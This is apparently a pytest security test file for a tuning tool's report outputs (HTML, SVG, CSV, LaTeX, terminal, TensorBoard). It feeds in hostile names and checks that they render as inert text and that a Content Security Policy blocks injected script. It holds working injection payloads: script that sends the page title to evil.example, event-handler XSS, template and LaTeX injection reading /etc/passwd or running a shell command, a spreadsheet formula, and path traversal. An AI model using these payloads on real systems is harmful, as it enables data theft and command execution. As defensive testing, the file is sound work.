"""Names and messages that hold markup, scripts, formulas, escapes and paths: text wherever they are shown.

The browser is the judge of HTML, of SVG and of TensorBoard's page: a script that ran would raise a dialog, set
`window.pwned` or ask for an address, and each of these fails the test (`browser.opened`).
"""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from tests.support.browser import opened
from tests.support.golden_journal import SPACE, session, study, trial
from tests.support.tensorboard_server import board, session_groups
from tests.support.undrawn import drawn
from tuning.cli import status
from tuning.cli.console import SafeConsole
from tuning.journal.journal import read
from tuning.journal.records import Cell, CellEnd, Retraining, TrialState
from tuning.journal.study_record import DataRecord, StudyRecord
from tuning.journal.writer import JournalWriter
from tuning.report.report import write_report
from tuning.tensorboard.hparams import write_hparams

SCRIPT = "window.pwned=1;alert(1);fetch('http://evil.example/'+document.title)"
HOSTILE = {
    "html": f'</script></style></title><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"><svg onload="{SCRIPT}">',
    "attribute": f'" onfocus="{SCRIPT}" autofocus tabindex=1 x=\'',
    "link": f"javascript:{SCRIPT} [x](javascript:{SCRIPT}) <http://evil.example> ![x](http://evil.example/x.png)",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} {0.__class__}",
    "vega": "datum['x'] \\'+alert(1)+\\' a.b[0]\\.c",
    "markdown": "# head\n\n| a | b |\n- item\n```\n<b>&amp;",
    "formula": '=HYPERLINK("http://evil.example")',
    "latex": "\\input{/etc/passwd}\\write18{touch pwned}^^41%$&_#~",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b1mred\x00\r\x08",
    "path": "../../../../tmp/pwned/..\\..\\C:/con/%2e%2e/~root",
    "unicode": "\u202eabc\u2066\u200b é 漢字 🦄 \ud800 \uffff ﷽ İ",
    "long": "x" * 10_000,
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study whose every name, value and message is hostile: a tuner and a problem each, several hyperparameters."""
    root = tmp_path_factory.mktemp("hostile")
    path = root / "study"
    space = [*SPACE, *({"name": text, "type": "Choice", "values": [text, "b"]} for text in HOSTILE.values())]
    values = dict.fromkeys(HOSTILE.values(), "b") | {text: text for text in list(HOSTILE.values())[::2]}
    problems = {
        text: replace(study().problems["digits"], space=space, data=DataRecord(text, {text: {text: text}}))
        for text in list(HOSTILE.values())[:2]
    }
    first = StudyRecord(study=HOSTILE["html"], problems=problems)
    with JournalWriter.create(path, first) as writer, writer.batched():
        session(writer, list(HOSTILE.values()), 4, 2, retrain=1)
        for problem in problems:
            for place, tuner in enumerate(HOSTILE.values()):
                for replicate in (1, 2):
                    cell = Cell(problem, tuner, replicate)
                    scores = [0.5 + 0.01 * place, 0.6 + 0.01 * ((place + replicate) % 5)]
                    done = trial(cell, 0, scores, 2, configuration=values)
                    writer.trial(done)
                    writer.trial(
                        trial(cell, 1, [0.5, 0.4], 4, state=TrialState.FAILED, error=tuner, configuration=values)
                    )
                    scores_on_test = {"accuracy": 0.5, tuner: 0.5}
                    curve = [{"val_accuracy": 0.5, tuner: 0.5}]
                    writer.retraining(
                        Retraining(
                            cell, 0, 1, done.configuration, TrialState.COMPLETE, 0.5, scores_on_test, curve, error=tuner
                        )
                    )
                    writer.cell(CellEnd(cell, "DONE", f"the budget is spent {tuner}", tuner, 2, 4, 1.0))
    journal = read(path)
    write_hparams(journal, path)
    with drawn():
        write_report(path, journal)
    assert [entry.name for entry in root.iterdir()] == ["study"]
    return path


def texts(folder: Path, pattern: str) -> Iterator[tuple[Path, str]]:
    for path in sorted(folder.rglob(pattern)):
        yield path, path.read_text(encoding="utf-8")


def test_no_file_is_written_outside_the_folder(folder: Path) -> None:
    assert not Path("/tmp/pwned").exists()
    for path in folder.rglob("*"):
        assert path.resolve().is_relative_to(folder.resolve())
        assert re.fullmatch(r"[\w.%~-]{1,150}", path.name), path
        assert not path.is_symlink()


def test_markdown_shows_it_all_and_links_nowhere(folder: Path) -> None:
    text = re.sub(r"^(```+)sh\n.*\n\1\n", "", (folder / "report.md").read_text(encoding="utf-8"), flags=re.M)
    text = re.sub(r"^(?:<details><summary>(.*)</summary>|</details>)$", r"\1", text, flags=re.M)  # our own
    assert not re.search(r"<[a-zA-Z/!]", text)
    assert not re.search(r"(?<!\\)\]\((?!figures/)", text)
    assert not re.search(r"https?://evil", text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    for block in re.findall(r"(?:^\|.*\n)+", text, flags=re.M):
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in block.splitlines()}) == 1


def test_svg_is_well_formed_and_without_scripts(folder: Path) -> None:
    pictures = list(texts(folder, "figures/*.svg"))
    assert pictures
    for path, text in pictures:
        for element in ElementTree.fromstring(text).iter():
            assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "image", "a"), path
            assert not [name for name in element.attrib if name.lower().startswith("on") or "href" in name], path


def test_csv_holds_no_formula(folder: Path) -> None:
    for _, text in texts(folder, "*.csv"):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text.replace(os.linesep, "\n"))
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if re.match(r"\s*[=@+]|\s*-(?![\d.]+(e-?\d+)?$)", cell)]


def test_latex_holds_no_command_of_theirs(folder: Path) -> None:
    tables = list(texts(folder, "tables/*.tex"))
    assert tables
    for _, text in tables:
        body = "\n".join(text.splitlines()[3:])
        assert "\\input" not in body
        assert "\\write" not in body
        assert "^^" not in body


def test_the_terminal_shows_escapes_and_obeys_none(folder: Path) -> None:
    written = io.StringIO()
    status.show(status.look(folder), SafeConsole(file=written, force_terminal=False, width=400))
    printed = written.getvalue()
    assert r"\x1b]0;pwned\x07" in printed
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", printed)
    printed.encode()


@pytest.mark.slow
def test_the_report_runs_no_script_but_its_own(browser: Any, folder: Path) -> None:
    with opened(browser, (folder / "report.html").as_uri()) as page:
        page.locator("details").evaluate_all("all => all.forEach(one => one.open = true)")
        page.locator(".chart:not(:has(svg))").first.wait_for(state="detached")
        page.locator("th button").evaluate_all("all => all.forEach(one => one.click())")
        assert page.locator("script").count() == page.evaluate(
            "document.querySelectorAll('body > script, head > script, script[type=\"application/json\"]').length"
        )
        assert page.locator("head > script").count() == 1  # the page's own library
        assert page.locator("[onerror], [onload], [onfocus], a[href^=javascript], iframe, object, embed").count() == 0
        assert "</script></style></title><script>window.pwned" in page.title() + page.inner_text("h1")


@pytest.mark.slow
def test_the_policy_stops_a_script_that_slipped_in(browser: Any, folder: Path, tmp_path: Path) -> None:
    """The second line of defence, tried by itself: markup put into the page by hand does not run."""
    page_text = (folder / "report.html").read_text(encoding="utf-8")
    slipped = tmp_path / "slipped.html"
    attack = f"<script>{SCRIPT}</script><img src=x onerror=\"{SCRIPT}\"><img src='http://evil.example/a.png'>"
    slipped.write_text(page_text.replace("<main>", f"<main>{attack}", 1), encoding="utf-8")
    context = browser.new_context()
    try:
        answered: list[str] = []
        stopped: dict[str, str] = {}
        context.on("requestfinished", lambda request: answered.append(request.url))
        context.on("requestfailed", lambda request: stopped.update({request.url: request.failure}))
        page = context.new_page()
        refused: list[str] = []
        page.on("console", lambda said: refused.append(said.text))
        page.goto(slipped.as_uri())
        assert page.evaluate("window.pwned") is None
        assert [url for url in answered if not url.startswith(("file:", "data:"))] == []
        assert stopped.pop("http://evil.example/a.png") == "csp"  # before it left the page
        assert [url for url in stopped if not url.startswith("file:")] == []
        assert len([line for line in refused if "Content Security Policy" in line]) >= 3
    finally:
        context.close()


@pytest.mark.slow
@pytest.mark.parametrize("summary", [False, True], ids=["trials", "summary"])
def test_tensorboard_shows_it_as_text(browser: Any, folder: Path, tmp_path: Path, summary: bool) -> None:
    count = 2 * len(HOSTILE) * (1 if summary else 4)
    with board(tmp_path, folder, "--summary" if summary else "--all") as (url, _):
        session_groups(url, count)
        with opened(browser, f"{url}#hparams", url, viewport={"width": 1600, "height": 1000}) as page:
            page.locator("vaadin-grid-cell-content:visible").first.wait_for()
            page.wait_for_timeout(3000)
